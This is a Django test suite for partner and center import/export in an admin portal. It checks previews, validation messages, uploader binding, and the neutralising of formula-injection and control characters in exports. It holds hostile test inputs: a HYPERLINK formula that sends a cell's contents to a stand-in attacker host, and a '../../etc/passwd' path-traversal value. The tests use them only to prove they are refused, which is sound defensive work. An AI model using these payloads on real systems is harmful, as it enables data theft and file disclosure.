"""Imports that show what changes, refuse what they cannot take, and exports that stay inert."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accounts import roles
from centers.models import Center
from partners.models import Partner
from partners.resources import PartnerResource
from tests.factories import CenterFactory, PartnerFactory, StaffFactory, TopicFactory
from welcome_portal.import_admin import MAX_ROWS

pytestmark = pytest.mark.django_db

IMPORT_URL = "/admin/partners/partner/import/"
CONFIRM_URL = "/admin/partners/partner/process_import/"
CSV_FORMAT, XLSX_FORMAT = 0, 1


def upload(client, content: bytes, name="partners.csv", fmt=CSV_FORMAT, lang="en", **extra):
    data = {"import_file": SimpleUploadedFile(name, content), "format": fmt, **extra}
    return client.post(IMPORT_URL, data, HTTP_ACCEPT_LANGUAGE=lang)


def confirm(client, preview, **changes):
    form = preview.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    data.update(changes)
    return client.post(CONFIRM_URL, data, HTTP_ACCEPT_LANGUAGE="en")


def exported_csv() -> str:
    return PartnerResource().export(Partner.objects.all()).csv


@pytest.fixture
def fifty_partners(db):
    return [PartnerFactory(city="Lima", country="PE") for _ in range(50)]


def one_new_one_changed(fifty_partners) -> bytes:
    rows = list(csv.DictReader(io.StringIO(exported_csv())))
    rows[0]["city"] = "Callao"
    rows.append({**rows[1], "slug": "goethe-institut-cusco", "name": "Goethe-Institut Cusco"})
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def test_preview_starts_with_the_summary_and_shows_only_new_and_changed_rows(
    staff_client, fifty_partners
):
    preview = upload(staff_client, one_new_one_changed(fifty_partners))
    assert preview.context["preview"]["summary"] == {
        "new": 1,
        "changed": 1,
        "unchanged": 49,
        "invalid": 0,
    }
    html = preview.content.decode()
    summary_at = html.index('id="import-summary"')
    assert summary_at < html.index("New rows (1)") < html.index("Changed rows (1)")
    changed = html.split("Changed rows (1)")[1].split("</table>")[0]
    # only the changed field, with its old and new value
    assert "<strong>City:</strong>" in changed
    assert "Lima</del>" in changed
    assert "Callao</ins>" in changed
    assert "Country" not in changed
    assert "<details" in html
    assert "49 unchanged rows</summary>" in html
    assert not Partner.objects.filter(slug="goethe-institut-cusco").exists()


def test_preview_column_labels_are_in_the_pages_language(staff_client, fifty_partners):
    preview = upload(staff_client, one_new_one_changed(fifty_partners), lang="de")
    html = preview.content.decode()
    assert "Was diese Datei ändert" in html
    assert "<strong>Ort:</strong>" in html
    assert "1</strong> neu" in html
    assert "city:" not in html


def test_import_marks_rows_verified_only_when_the_person_says_so(staff_client, agency_staff):
    content = b"slug,name,kind,country,city,status\nbmas,BMAS,federal-ministry,DE,Berlin,active\n"
    assert confirm(staff_client, upload(staff_client, content)).status_code == 302
    assert Partner.objects.get(slug="bmas").last_verified_at is None

    content = content.replace(b"Berlin", b"Bonn")
    preview = upload(staff_client, content, mark_verified="on")
    assert "Every row of the file will be marked as verified today." in preview.content.decode()
    assert confirm(staff_client, preview).status_code == 302
    bmas = Partner.objects.get(slug="bmas")
    assert bmas.city == "Bonn"
    assert bmas.verified_by == agency_staff
    assert bmas.last_verified_at is not None


def form_error(response) -> str:
    assert response.status_code == 200
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    return " ".join(response.context["form"].errors.get("import_file", []))


def test_repeated_slugs_in_one_file_are_refused_and_listed(staff_client):
    content = (
        "slug,name,kind\n"
        "a-partner,A,other\nb-partner,B,other\na-partner,A again,other\nb-partner,B,other\n"
    )
    message = form_error(upload(staff_client, content.encode()))
    assert "Repeated: a-partner (rows 2, 4); b-partner (rows 3, 5)." in message
    assert not Partner.objects.exists()


def test_formula_cells_are_refused_in_csv_and_xlsx(staff_client):
    csv_content = b'slug,name,kind\nx,"=HYPERLINK(""https://evil.example"",""x"")",other\n'
    assert "formulas" in form_error(upload(staff_client, csv_content))

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["slug", "name", "kind"])
    sheet.append(["x", "=1+1", "other"])
    buffer = io.BytesIO()
    book.save(buffer)
    message = form_error(upload(staff_client, buffer.getvalue(), "p.xlsx", XLSX_FORMAT))
    assert "The file contains formulas (B2)" in message
    assert not Partner.objects.exists()


def test_too_many_rows_and_too_large_files_are_refused_with_a_clear_message(staff_client):
    rows = "".join(f"p-{i},P {i},other\n" for i in range(MAX_ROWS + 1))
    message = form_error(upload(staff_client, f"slug,name,kind\n{rows}".encode()))
    assert "at most 10,000 can be imported at once" in message
    big = b"slug,name,kind\n" + b"x" * (5 * 1024 * 1024 + 1)
    assert "at most 5 MB" in form_error(upload(staff_client, big))


@pytest.mark.parametrize(
    ("content", "fmt", "expected"),
    [
        (b"name,kind\nA,other\n", CSV_FORMAT, "The file has no “slug” column."),
        (b"slug,name\n", XLSX_FORMAT, "This is not an XLSX file."),
        (b"\xff\xfe\x00s", CSV_FORMAT, "not UTF-8"),
        (b"", CSV_FORMAT, ""),
    ],
    ids=["no-key-column", "csv-as-xlsx", "not-utf8", "empty"],
)
def test_unreadable_files_get_a_message_never_a_traceback(staff_client, content, fmt, expected):
    response = upload(staff_client, content, fmt=fmt)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Traceback" not in html
    assert expected in html
    assert 'class="errorlist' in html


@pytest.mark.parametrize(
    "data",
    [
        {"import_file_name": "tmpabc", "original_file_name": "x.csv", "format": "99"},
        {"import_file_name": "../../etc/passwd", "original_file_name": "x.csv", "format": "0"},
        {},
    ],
    ids=["bogus-format", "foreign-file", "no-file"],
)
def test_confirming_a_bogus_import_gives_a_message(staff_client, data):
    response = staff_client.post(CONFIRM_URL, data, follow=True, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "This import has expired or is not yours." in response.content.decode()


def test_the_uploaded_file_is_bound_to_its_uploader(staff_client, fifty_partners):
    preview = upload(staff_client, one_new_one_changed(fifty_partners))
    other = Client()
    other.force_login(StaffFactory(role=roles.AGENCY_STAFF, email="other@example.org"))
    stolen = confirm(other, preview)
    assert stolen.status_code == 302
    assert not Partner.objects.filter(slug="goethe-institut-cusco").exists()
    assert confirm(staff_client, preview).status_code == 302
    assert Partner.objects.filter(slug="goethe-institut-cusco").exists()


def test_exports_are_inert_in_csv_and_xlsx(staff_client):
    PartnerFactory(
        name='=HYPERLINK("https://evil.example/?x="&B2,"badge")',
        slug="evil",
        phone="+49 30 1234\x1b",
        city="@Berlin",
    )
    form = staff_client.get("/admin/partners/partner/export/").context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial}
    text = staff_client.post("/admin/partners/partner/export/", {**data, "format": 0})
    row = next(r for r in csv.DictReader(io.StringIO(text.content.decode())) if r["slug"] == "evil")
    assert row["name"].startswith("'=HYPERLINK")
    assert row["phone"] == "'+49 30 1234"
    assert row["city"] == "'@Berlin"
    assert row["latitude"].startswith("19.4326")  # numbers stay numbers
    assert row["longitude"].startswith("-99.1332")

    xlsx = staff_client.post("/admin/partners/partner/export/", {**data, "format": 1})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'+49 30 1234" for cell in cells)


def test_center_import_has_the_same_summary(client):
    admin_user = StaffFactory(role=roles.AGENCY_STAFF, email="centers@example.org")
    client.force_login(admin_user)
    for n in range(3):
        CenterFactory(name=f"Welcome Center {n}", city="Erfurt")
    from centers.resources import CenterResource

    rows = list(csv.DictReader(io.StringIO(CenterResource().export(Center.objects.all()).csv)))
    rows[0]["city"] = "Jena"
    rows[0]["kind"] = "branch"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    response = client.post(
        "/admin/centers/center/import/",
        {"import_file": SimpleUploadedFile("c.csv", out.getvalue().encode()), "format": 0},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    html = response.content.decode()
    assert response.context["preview"]["summary"]["invalid"] == 1
    assert "“branch” is not a valid value. Valid values: chamber, municipal," in html
    assert "<strong>Kind:</strong>" in html


def test_preview_writes_nothing_and_still_shows_new_branches_and_changed_topics(staff_client):
    feg = TopicFactory(slug="feg")
    TopicFactory(slug="visa")
    PartnerFactory(slug="goethe-institut-lima", name="Goethe-Institut Lima", topics=[feg])
    before = Partner.history.count()
    content = (
        "slug,name,kind,parent,topics\n"
        "goethe-institut-lima,Goethe-Institut Lima,goethe-institut,,feg|visa\n"
        "goethe-institut,Goethe-Institut,goethe-institut,,\n"
        "goethe-institut-cusco,Goethe-Institut Cusco,goethe-institut,goethe-institut,visa\n"
    )
    preview = upload(staff_client, content.encode())
    assert preview.context["preview"]["summary"] == {
        "new": 2,
        "changed": 1,
        "unchanged": 0,
        "invalid": 0,
    }
    changed = preview.content.decode().split("Changed rows (1)")[1].split("</table>")[0]
    assert "<strong>Topics:</strong>" in changed
    assert "feg|visa</ins>" in changed
    assert Partner.objects.count() == 1
    assert Partner.history.count() == before
    assert confirm(staff_client, preview).status_code == 302
    cusco = Partner.objects.get(slug="goethe-institut-cusco")
    assert cusco.parent.slug == "goethe-institut"
    assert {t.slug for t in Partner.objects.get(slug="goethe-institut-lima").topics.all()} == {
        "feg",
        "visa",
    }
